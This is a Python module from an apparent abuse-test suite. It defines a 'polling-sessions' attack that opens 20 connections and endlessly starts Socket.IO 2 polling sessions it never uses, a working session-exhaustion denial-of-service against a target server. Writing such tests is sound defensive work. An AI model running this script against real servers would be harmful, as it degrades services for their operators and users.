"""Socket.IO sessions that are begun one after the other over one connection, and left alone."""

import asyncio

from tests.abuse.attack import Attack
from tests.abuse.target import Target, all_of

_CONNECTIONS = 20


async def _begin_sessions(target: Target, number: int) -> None:
    reader, writer = await target.connect()
    begin = f"GET /socket.io/?EIO=3&transport=polling HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n\r\n".encode()
    while True:
        await target.write(writer, begin)
        answer = await reader.readuntil(b"\r\n\r\n")
        [length] = [
            int(line.split(b":")[1]) for line in answer.split(b"\r\n") if line.lower().startswith(b"content-length")
        ]
        await reader.readexactly(length)
        if b" 200 " not in answer.split(b"\r\n", 1)[0]:
            await asyncio.sleep(0.1)


async def run(target: Target) -> None:
    await all_of(*(_begin_sessions(target, number) for number in range(_CONNECTIONS)))


ATTACK = Attack(
    name="polling-sessions",
    says="Polling sessions of Socket.IO 2, begun as fast as they are admitted, and left alone.",
    run=run,
)
